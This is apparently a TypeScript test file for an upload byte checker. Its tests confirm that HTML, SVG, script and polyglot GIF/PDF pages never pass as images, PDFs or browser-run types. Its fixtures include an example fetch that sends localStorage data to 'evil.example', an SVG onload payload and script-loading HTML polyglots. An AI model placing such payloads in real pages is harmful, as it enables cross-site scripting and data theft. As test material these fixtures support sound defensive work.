// The one check of every file's bytes: the bytes say what they are, the type they are kept as
// comes from one list, and a page, a script or an SVG never passes as an image, a PDF or a type a
// browser would run, whatever it is called.
import { describe, expect, it } from 'vitest';
import { checkBlob, checkBytes, KEPT_TYPES, MAX_KEPT_BYTES, type DeclaredBytes } from './check-bytes';
import { declaredBlobs, describeDeclared } from './declared-blobs';
import { makeTestPdf } from './test-pdf';

const PNG = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 73, 72, 68, 82]);
const JPEG = new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16, 74, 70, 73, 70, 0]);
const text = (value: string) => new TextEncoder().encode(value);
const HTML = text('<!doctype html><script src="http://127.0.0.1:9/x.js"></script>');
const SVG = text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
const SCRIPT = text('fetch("https://evil.example/" + localStorage.key)');
const image = (type: string): DeclaredBytes => ({ kind: 'image', type });
const file = (type: string): DeclaredBytes => ({ kind: 'file', type });

describe('the check of a file’s bytes', () => {
	it('keeps an image as the type of its signature, a PDF as a PDF and text as text', () => {
		expect(checkBytes(PNG, image('image/png'))).toEqual({ ok: true, kind: 'image', type: 'image/png' });
		expect(checkBytes(JPEG, image('image/jpeg'))).toEqual({ ok: true, kind: 'image', type: 'image/jpeg' });
		expect(checkBytes(text('GIF89a\u0001\u0000'), image('image/gif'))).toEqual({ ok: true, kind: 'image', type: 'image/gif' });
		expect(checkBytes(text('RIFF\u0000\u0000\u0000\u0000WEBPVP8 '), image('image/webp'))).toEqual({ ok: true, kind: 'image', type: 'image/webp' });
		expect(checkBytes(makeTestPdf([['Hello']]), file('application/pdf'))).toEqual({ ok: true, kind: 'pdf', type: 'application/pdf' });
		expect(checkBytes(text('# Plan\n'), file('text/markdown'))).toEqual({ ok: true, kind: 'text', type: 'text/markdown' });
		expect(checkBytes(text('a,b\n'), file('text/csv; charset=utf-8'))).toEqual({ ok: true, kind: 'text', type: 'text/csv' });
	});

	it('keeps every file as a type of one list, none of which a browser runs', () => {
		expect([...KEPT_TYPES].filter((type) => /html|xml|svg|script/i.test(type))).toEqual([]);
		for (const declared of ['text/html', 'application/xhtml+xml', 'image/svg+xml', 'text/javascript', 'application/x-python', 'video/mp2t', 'text/xsl', '']) {
			const checked = checkBytes(text('<p>hello</p>'), file(declared));
			expect(checked, declared).toEqual({ ok: true, kind: 'text', type: 'text/plain' });
			expect(KEPT_TYPES.has(checked.ok ? checked.type : ''), declared).toBe(true);
		}
	});

	it('refuses HTML, SVG and script called an image or a PDF; as text they are plain text', () => {
		for (const bytes of [HTML, SVG, SCRIPT]) {
			for (const type of ['image/png', 'image/jpeg', 'image/gif', 'image/webp', 'image/svg+xml', 'text/html']) {
				expect(checkBytes(bytes, image(type))).toEqual({ ok: false, reason: 'its bytes are not a PNG, JPEG, GIF or WebP image' });
			}
			expect(checkBytes(bytes, file('application/pdf'))).toEqual({ ok: false, reason: 'its bytes are not a PDF' });
			expect(checkBytes(bytes, file('text/html'))).toEqual({ ok: true, kind: 'text', type: 'text/plain' });
		}
	});

	it('refuses an image of another type than it is said to be, and an image called a file', () => {
		expect(checkBytes(JPEG, image('image/png'))).toEqual({ ok: false, reason: 'its bytes are a JPEG image, not the PNG image it is said to be' });
		expect(checkBytes(PNG, file('text/plain'))).toEqual({ ok: false, reason: 'its bytes are a PNG image, not a file' });
		expect(checkBytes(PNG, file('application/pdf'))).toEqual({ ok: false, reason: 'its bytes are a PNG image, not a file' });
	});

	it('refuses polyglots: a GIF signature before a page is a GIF and never a file, a page with %PDF- inside is no PDF called text', () => {
		const gifPage = text('GIF89a=1;<html><script src="http://127.0.0.1:9/x.js"></script></html>');
		expect(checkBytes(gifPage, file('text/html'))).toEqual({ ok: false, reason: 'its bytes are a GIF image, not a file' });
		expect(checkBytes(gifPage, image('image/gif'))).toEqual({ ok: true, kind: 'image', type: 'image/gif' });
		const pdfPage = text('<html><!-- %PDF-1.7 --><script>alert(1)</script></html>');
		expect(checkBytes(pdfPage, file('application/pdf'))).toEqual({ ok: true, kind: 'pdf', type: 'application/pdf' });
		expect(checkBytes(pdfPage, file('text/html'))).toEqual({ ok: true, kind: 'text', type: 'text/plain' });
		expect(checkBytes(new Uint8Array([...PNG, ...HTML]), image('image/png'))).toEqual({ ok: true, kind: 'image', type: 'image/png' });
	});

	it('refuses bytes that are no UTF-8 text, hold NUL, or pass the size of their kind', () => {
		expect(checkBytes(new Uint8Array([0x66, 0xff, 0x66]), file('text/plain'))).toEqual({ ok: false, reason: 'its bytes are not UTF-8 text' });
		expect(checkBytes(text('a\u0000b'), file('text/plain'))).toEqual({ ok: false, reason: 'its bytes are not UTF-8 text' });
		const big = new Uint8Array(MAX_KEPT_BYTES.text + 1).fill(0x61);
		expect(checkBytes(big, file('text/plain'))).toEqual({ ok: false, reason: 'it is over 1 MB, the most a text file may be' });
		const hugeImage = new Uint8Array(MAX_KEPT_BYTES.image + 1);
		hugeImage.set(PNG);
		expect(checkBytes(hugeImage, image('image/png'))).toEqual({ ok: false, reason: 'it is over 5 MB, the most an image may be' });
	});

	it('gives the same answer for a Blob, reading only the head of an image', async () => {
		expect(await checkBlob(new Blob([PNG], { type: 'text/html' }), image('image/png'))).toEqual({ ok: true, kind: 'image', type: 'image/png' });
		expect(await checkBlob(new Blob([HTML], { type: 'image/png' }), image('image/png'))).toEqual({ ok: false, reason: 'its bytes are not a PNG, JPEG, GIF or WebP image' });
		expect(await checkBlob(new Blob([HTML], { type: 'text/html' }), file('text/html'))).toEqual({ ok: true, kind: 'text', type: 'text/plain' });
		expect(await checkBlob(new Blob([new Uint8Array([0xc3])]), file('text/plain'))).toEqual({ ok: false, reason: 'its bytes are not UTF-8 text' });
	});
});

describe('what the messages of a session say of its files', () => {
	const shownImage = { type: 'image' as const, id: 'x', name: 'photo.png', mimeType: 'image/png', size: 16, width: 1, height: 1 };

	it('is one thing per id: the first message that shows it says what', () => {
		const { byId, disagreement } = declaredBlobs([{ attachments: [shownImage] }, { attachments: [shownImage] }]);
		expect(disagreement).toBeNull();
		expect(byId.get('x')).toEqual({ kind: 'image', type: 'image/png', size: 16, row: 0 });
	});

	it('finds two messages that say different things of one id: another kind, type or size, a tool’s image included', () => {
		const asFile = { type: 'file' as const, id: 'x', name: 'n.html', mimeType: 'text/html', size: 16 };
		const { disagreement } = declaredBlobs([{ attachments: [shownImage] }, {}, { attachments: [asFile] }]);
		expect(disagreement).toEqual({ id: 'x', first: { kind: 'image', type: 'image/png', size: 16, row: 0 }, second: { kind: 'file', type: 'text/html', size: 16, name: 'n.html', row: 2 } });
		expect(`${describeDeclared(disagreement!.first)} / ${describeDeclared(disagreement!.second)}`).toBe('a PNG image (image/png) / a file “n.html” (text/html)');
		const tool = { server: 's', is_error: false, parts: [{ type: 'image' as const, id: 'x', mimeType: 'image/jpeg', size: 16 }] };
		expect(declaredBlobs([{ attachments: [shownImage] }, { tool_result: tool }]).disagreement?.second).toEqual({ kind: 'image', type: 'image/jpeg', size: 16, row: 1 });
		expect(declaredBlobs([{ attachments: [shownImage] }, { attachments: [{ ...shownImage, size: 17 }] }]).disagreement?.second.size).toBe(17);
	});
});
